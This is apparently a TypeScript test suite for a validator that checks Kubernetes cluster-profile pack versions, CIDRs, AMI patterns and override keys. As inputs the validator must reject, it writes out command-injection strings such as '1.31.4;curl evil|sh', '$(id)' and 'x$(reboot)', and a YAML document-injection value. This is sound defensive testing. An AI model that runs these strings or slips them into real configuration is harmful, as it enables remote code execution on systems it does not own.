import { BUILT_IN_PROFILES } from '../../store/built-in-profiles';
import { packProblems, packSchema, PACK_LAYERS } from '../../common/pack-schemas';
import { ProfileError, resolveProfile } from '../../common/profile';

const pack = (name: string, layer: string, version: string, values: Record<string, unknown> = {}) => ({ name, layer, version, values });
const problems = (p: ReturnType<typeof pack>) => packProblems(p, 'packs.1').map(({ field, rule }) => `${field}:${rule}`);

function resolveProblems(overrides: Record<string, unknown>, packs = BUILT_IN_PROFILES[0].packs): string[] {
  try {
    resolveProfile('aws-default', packs, overrides);
    return [];
  } catch (error) {
    if (!(error instanceof ProfileError)) throw error;
    return error.problems.map(({ field, rule }) => `${field}:${rule}`);
  }
}

describe('pack schemas', () => {
  it('accept every pack of the built-in profiles, which still resolve', () => {
    for (const profile of BUILT_IN_PROFILES) {
      profile.packs.forEach((p, i) => expect(packProblems(p, `packs.${i}`)).toEqual([]));
      expect(() => resolveProfile(profile.id, profile.packs, {})).not.toThrow();
    }
  });

  it.each([
    ['kubernetes', 'k8s', ['1.31.4', '1.30.0', '1.9.10'], ['1.31.4;curl evil|sh', 'v1.31.4', '1.31', '1.31.4\n---', '01.31.4', '1.031.4', '2.0.0', '1.31.4 ', '1.31.4-rc.1', '$(id)']],
    ['calico', 'cni', ['3.29.1', 'v3.29.1'], ['3.29', 'vv3.29.1', '3.29.1;x', 'latest', '3.29.1\n']],
    ['cilium', 'cni', ['1.16.5', 'v1.16.5'], ['1.16', '`id`', '1.16.5#x']],
    ['ubuntu', 'os', ['22.04', '24.04', '24.10', '22.04.5'], ['22.4', '22.05', 'jammy', "22.04'", '22.04.05']],
    ['aws-ebs-csi', 'csi', ['1.38.1', 'v1.38.1'], ['1.38', '1.38.1 && x']],
  ])('%s versions follow its grammar', (name, layer, good, bad) => {
    for (const version of good) expect(problems(pack(name, layer, version))).toEqual([]);
    for (const version of bad) expect(problems(pack(name, layer, version))).toEqual(['packs.1.version:pack-version']);
  });

  it('types each value of a known pack', () => {
    const k8s = (values: Record<string, unknown>) => problems(pack('kubernetes', 'k8s', '1.31.4', values));
    expect(k8s({ podCIDR: '10.244.0.0/16', serviceCIDR: '10.96.0.0/12' })).toEqual([]);
    expect(k8s({ podCIDR: '10.244.0.0/16\n---\nkind: Evil' })).toEqual(['packs.1.values.podCIDR:cidr']);
    expect(k8s({ serviceCIDR: '10.96.0.1/12' })).toEqual(['packs.1.values.serviceCIDR:cidr']);
    expect(k8s({ podCIDR: 10 })).toEqual(['packs.1.values.podCIDR:string']);

    const os = (values: Record<string, unknown>) => problems(pack('ubuntu', 'os', '22.04', values));
    for (const amiOwner of ['099720109477', 'amazon', 'aws-marketplace']) expect(os({ amiOwner })).toEqual([]);
    for (const amiOwner of ['12345', 'self', 'amazon;id', '0997201094770', '']) expect(os({ amiOwner })).toEqual(['packs.1.values.amiOwner:ami-owner']);
    for (const amiNamePattern of ['ubuntu/images/hvm-ssd/ubuntu-jammy-22.04-amd64-server-*', 'al2023-ami-2023.?.*-x86_64', 'my-[ab](1)@x']) {
      expect(os({ amiNamePattern })).toEqual([]);
    }
    for (const amiNamePattern of ['ubuntu/$(id)', 'a\nb*', "it's", 'a b', 'x'.repeat(129), 'ab']) {
      expect(os({ amiNamePattern })).toEqual(['packs.1.values.amiNamePattern:ami-name-pattern']);
    }

    const csi = (values: Record<string, unknown>) => problems(pack('aws-ebs-csi', 'csi', '1.38.1', values));
    expect(csi({ defaultStorageClass: 'gp3' })).toEqual([]);
    for (const defaultStorageClass of ['GP3', 'gp3;x', '-gp3', 'gp3\n']) expect(csi({ defaultStorageClass })).toEqual(['packs.1.values.defaultStorageClass:dns-label']);
  });

  it('refuses unknown value keys, naming the pack and the key', () => {
    const [problem] = packProblems(pack('kubernetes', 'k8s', '1.31.4', { foo: 'bar' }), 'packs.1');
    expect(problem).toEqual({ field: 'packs.1.values.foo', rule: 'known-pack-value', message: 'pack "kubernetes" has no value "foo" (it takes only podCIDR, serviceCIDR)' });
    expect(problems(pack('calico', 'cni', '3.29.1', { ipipMode: 'Always' }))).toEqual(['packs.1.values.ipipMode:known-pack-value']);
    // Keys that name Object.prototype members are unknown keys too, not inherited grammars.
    expect(problems(pack('calico', 'cni', '3.29.1', JSON.parse('{"__proto__": "x", "constructor": "y", "toString": "z"}')))).toEqual([
      'packs.1.values.__proto__:known-pack-value',
      'packs.1.values.constructor:known-pack-value',
      'packs.1.values.toString:known-pack-value',
    ]);
  });

  it('refuses packs it does not know and packs in the wrong layer', () => {
    const [unknown] = packProblems(pack('flannel', 'cni', '0.26.1'), 'packs.2');
    expect(unknown).toMatchObject({ field: 'packs.2.name', rule: 'known-pack' });
    expect(unknown.message).toContain('"flannel"');
    expect(unknown.message).toContain('calico (cni)');
    expect(problems(pack('constructor', 'addon', '1.0.0'))).toEqual(['packs.1.name:known-pack']);
    expect(problems(pack('calico', 'os', '3.29.1'))).toEqual(['packs.1.layer:pack-layer']);
  });

  it('names a layer for every known pack from the layers the API accepts', () => {
    for (const name of ['ubuntu', 'kubernetes', 'calico', 'cilium', 'aws-ebs-csi']) expect(PACK_LAYERS).toContain(packSchema(name)?.layer);
  });
});

describe('resolveProfile checks overrides with the same grammars', () => {
  it('applies overrides that fit', () => {
    expect(resolveProblems({ kubernetes: { podCIDR: '172.20.0.0/16' }, ubuntu: { amiOwner: 'amazon', amiNamePattern: 'al2023-ami-*' } })).toEqual([]);
  });

  it('refuses values outside their grammar and unknown keys, at profile.overrides.<pack>.<key>', () => {
    expect(resolveProblems({ kubernetes: { podCIDR: '10.244.0.0/16\n---\nkind: Evil' } })).toEqual(['profile.overrides.kubernetes.podCIDR:cidr']);
    expect(resolveProblems({ kubernetes: { foo: 'bar' }, calico: { mtu: '1440' } })).toEqual(['profile.overrides.kubernetes.foo:known-pack-value', 'profile.overrides.calico.mtu:known-pack-value']);
    expect(resolveProblems({ ubuntu: { amiNamePattern: 'x$(reboot)' } })).toEqual(['profile.overrides.ubuntu.amiNamePattern:ami-name-pattern']);
    expect(resolveProblems({ cilium: {} })).toEqual(['profile.overrides.cilium:pack-in-profile']);
    expect(resolveProblems({ kubernetes: '10.0.0.0/16' })).toEqual(['profile.overrides.kubernetes:object']);
  });

  it('re-checks a stored profile that predates a grammar', () => {
    const stored = BUILT_IN_PROFILES[0].packs.map((p) => (p.name === 'calico' ? { ...p, version: '3.29.1;curl evil|sh' } : p));
    expect(resolveProblems({}, stored)).toEqual(['profile.id:pack-version']);
  });

  it('says where to set a value the OS pack needs', () => {
    const packs = BUILT_IN_PROFILES[0].packs.map((p) => (p.name === 'ubuntu' ? { ...p, values: {} } : p));
    expect(resolveProblems({}, packs)).toEqual(['profile.overrides.ubuntu.amiOwner:required-pack-value', 'profile.overrides.ubuntu.amiNamePattern:required-pack-value']);
    expect(resolveProblems({ ubuntu: { amiOwner: 'amazon', amiNamePattern: 'al2023-ami-*' } }, packs)).toEqual([]);
  });
});
